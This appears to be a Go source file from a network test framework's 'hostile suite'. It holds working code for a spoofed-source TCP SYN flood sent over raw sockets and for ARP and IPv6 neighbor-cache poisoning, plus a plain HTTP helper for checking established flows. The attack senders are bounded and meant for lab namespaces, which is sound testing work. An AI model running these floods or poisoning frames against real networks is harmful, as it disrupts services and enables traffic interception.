package framework

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"golang.org/x/sys/unix"

	"github.com/spklab/spklab/internal/netnsdo"
)

// The hostile suite's senders. Each runs in-process on a thread inside a
// lab namespace (a netns lab host or a container), sends a bounded number
// of frames at a bounded pace, and closes what it opened.

// SYNFlood is a bounded flood of TCP SYNs from spoofed sources, sent with
// a raw IPv4 socket so that the namespace's kernel routes each one as any
// client's (the router is the next hop) and answers nothing itself.
type SYNFlood struct {
	Target netip.AddrPort
	// Sources are the spoofed source addresses, used in turn; replies to
	// them must have nowhere to go but the lab (addresses of the client's
	// own network that no host holds: the router's ARP for them fails).
	Sources []netip.Addr
	// Count SYNs are sent, paced to take Within.
	Count  int
	Within time.Duration
}

// Send sends the flood from the namespace at nsPath and returns how many
// SYNs the kernel took and how long sending took. It stops early when ctx
// ends.
func (f SYNFlood) Send(ctx context.Context, nsPath string) (sent int, took time.Duration, err error) {
	if f.Count <= 0 || f.Within <= 0 || len(f.Sources) == 0 || !f.Target.Addr().Is4() {
		return 0, 0, fmt.Errorf("SYN flood: want a positive count and duration, sources and an IPv4 target (have %d, %v, %d sources, %s)", f.Count, f.Within, len(f.Sources), f.Target)
	}
	var fd int
	if err := netnsdo.Path(nsPath, func() (err error) {
		// IPPROTO_RAW: we write the IP header, the source included.
		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
		return err
	}); err != nil {
		return 0, 0, fmt.Errorf("SYN flood: raw socket: %w", err)
	}
	defer unix.Close(fd)
	dst := &unix.SockaddrInet4{Addr: f.Target.Addr().As4()}
	start := time.Now()
	// Batches every tick, so that the count is reached in Within.
	const tick = 5 * time.Millisecond
	perTick := max(1, int(int64(f.Count)*int64(tick)/int64(f.Within)))
	next := start
	for sent < f.Count {
		if err := ctx.Err(); err != nil {
			return sent, time.Since(start), err
		}
		for i := 0; i < perTick && sent < f.Count; i++ {
			src := f.Sources[sent%len(f.Sources)]
			pkt, err := spoofedSYN(src, uint16(1024+sent%60000), f.Target, uint32(sent)*2654435761)
			if err != nil {
				return sent, time.Since(start), err
			}
			if err := unix.Sendto(fd, pkt, 0, dst); err != nil {
				if errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
					break // the queue is full: the next tick goes on
				}
				return sent, time.Since(start), fmt.Errorf("SYN flood: sendto: %w", err)
			}
			sent++
		}
		next = next.Add(tick)
		time.Sleep(time.Until(next))
	}
	return sent, time.Since(start), nil
}

// spoofedSYN is an IPv4 TCP SYN from src:port to dst.
func spoofedSYN(src netip.Addr, port uint16, dst netip.AddrPort, seq uint32) ([]byte, error) {
	ip := &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolTCP, SrcIP: src.AsSlice(), DstIP: dst.Addr().AsSlice()}
	tcp := &layers.TCP{SrcPort: layers.TCPPort(port), DstPort: layers.TCPPort(dst.Port()), SYN: true, Seq: seq, Window: 64240}
	if err := tcp.SetNetworkLayerForChecksum(ip); err != nil {
		return nil, err
	}
	buf := gopacket.NewSerializeBuffer()
	if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, ip, tcp); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// NeighborPoison claims addresses for the sender's MAC on its link:
// gratuitous ARP replies for IPv4 and unsolicited, overriding Neighbor
// Advertisements with hop limit 255 (as from the link) for IPv6, Count of
// each, Gap apart, broadcast so that every host on the link hears them.
type NeighborPoison struct {
	Claims []netip.Addr
	Count  int
	Gap    time.Duration
}

// Send sends the claims from the first interface with an address in the
// namespace at nsPath and returns how many frames left.
func (p NeighborPoison) Send(ctx context.Context, nsPath string) (sent int, err error) {
	var (
		fd    int
		ifc   net.Interface
		frame [][]byte
	)
	err = netnsdo.Path(nsPath, func() error {
		var err error
		if ifc, err = linkWithAddress(); err != nil {
			return err
		}
		for _, a := range p.Claims {
			f, err := neighborClaim(a, ifc.HardwareAddr)
			if err != nil {
				return err
			}
			frame = append(frame, f)
		}
		fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
		return err
	})
	if err != nil {
		return 0, fmt.Errorf("neighbor poisoning: %w", err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Ifindex: ifc.Index, Halen: 6}
	copy(to.Addr[:], layers.EthernetBroadcast)
	for i := 0; i < p.Count; i++ {
		for _, f := range frame {
			if err := unix.Sendto(fd, f, 0, to); err != nil {
				return sent, fmt.Errorf("neighbor poisoning on %s: %w", ifc.Name, err)
			}
			sent++
		}
		select {
		case <-ctx.Done():
			return sent, ctx.Err()
		case <-time.After(p.Gap):
		}
	}
	return sent, nil
}

// linkWithAddress is the namespace's first non-loopback interface that is
// up and has an address (a stranger has exactly one).
func linkWithAddress() (net.Interface, error) {
	ifs, err := net.Interfaces()
	if err != nil {
		return net.Interface{}, err
	}
	for _, ifc := range ifs {
		if ifc.Flags&net.FlagLoopback != 0 || ifc.Flags&net.FlagUp == 0 || len(ifc.HardwareAddr) != 6 {
			continue
		}
		if addrs, err := ifc.Addrs(); err == nil && len(addrs) > 0 {
			return ifc, nil
		}
	}
	return net.Interface{}, errors.New("no interface with an address")
}

// neighborClaim is the frame claiming a for mac: a gratuitous ARP reply or
// an unsolicited NA to all nodes.
func neighborClaim(a netip.Addr, mac net.HardwareAddr) ([]byte, error) {
	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}
	if a.Is4() {
		eth := &layers.Ethernet{SrcMAC: mac, DstMAC: layers.EthernetBroadcast, EthernetType: layers.EthernetTypeARP}
		arp := &layers.ARP{AddrType: layers.LinkTypeEthernet, Protocol: layers.EthernetTypeIPv4, HwAddressSize: 6, ProtAddressSize: 4,
			Operation: layers.ARPReply, SourceHwAddress: mac, SourceProtAddress: a.AsSlice(),
			DstHwAddress: layers.EthernetBroadcast, DstProtAddress: a.AsSlice()}
		err := gopacket.SerializeLayers(buf, opts, eth, arp)
		return buf.Bytes(), err
	}
	allNodes := netip.MustParseAddr("ff02::1")
	eth := &layers.Ethernet{SrcMAC: mac, DstMAC: net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, EthernetType: layers.EthernetTypeIPv6}
	ip := &layers.IPv6{Version: 6, HopLimit: 255, NextHeader: layers.IPProtocolICMPv6, SrcIP: a.AsSlice(), DstIP: allNodes.AsSlice()}
	icmp := &layers.ICMPv6{TypeCode: layers.CreateICMPv6TypeCode(layers.ICMPv6TypeNeighborAdvertisement, 0)}
	if err := icmp.SetNetworkLayerForChecksum(ip); err != nil {
		return nil, err
	}
	na := &layers.ICMPv6NeighborAdvertisement{TargetAddress: a.AsSlice(), Flags: 0x20, // override
		Options: layers.ICMPv6Options{{Type: layers.ICMPv6OptTargetAddress, Data: mac}}}
	err := gopacket.SerializeLayers(buf, opts, eth, ip, icmp, na)
	return buf.Bytes(), err
}

// HTTPConn is one keep-alive HTTP/1.1 connection opened from inside a lab
// namespace: requests on it travel the flow it made, so a later request
// shows whether an established flow still works.
type HTTPConn struct {
	conn net.Conn
	r    *bufio.Reader
	host string
}

// DialHTTP connects from the namespace at nsPath to addr within timeout.
func DialHTTP(ctx context.Context, nsPath string, addr netip.AddrPort, timeout time.Duration) (*HTTPConn, error) {
	var conn net.Conn
	err := netnsdo.Path(nsPath, func() error {
		// The socket is made in this thread's namespace and stays there.
		d := net.Dialer{Timeout: timeout}
		c, err := d.DialContext(ctx, "tcp", addr.String())
		conn = c
		return err
	})
	if err != nil {
		return nil, fmt.Errorf("connecting to %s: %w", addr, err)
	}
	return &HTTPConn{conn: conn, r: bufio.NewReader(conn), host: addr.String()}, nil
}

// Get sends GET path on the connection and reads the whole answer within
// timeout; it returns the status code.
func (c *HTTPConn) Get(path string, timeout time.Duration) (int, error) {
	if err := c.conn.SetDeadline(time.Now().Add(timeout)); err != nil {
		return 0, err
	}
	if _, err := fmt.Fprintf(c.conn, "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: spklab-e2e\r\n\r\n", path, c.host); err != nil {
		return 0, fmt.Errorf("GET %s on %s: %w", path, c.host, err)
	}
	resp, err := http.ReadResponse(c.r, nil)
	if err != nil {
		return 0, fmt.Errorf("GET %s on %s: %w", path, c.host, err)
	}
	defer resp.Body.Close()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return resp.StatusCode, fmt.Errorf("GET %s on %s: reading the body: %w", path, c.host, err)
	}
	return resp.StatusCode, nil
}

// Close closes the connection.
func (c *HTTPConn) Close() error { return c.conn.Close() }
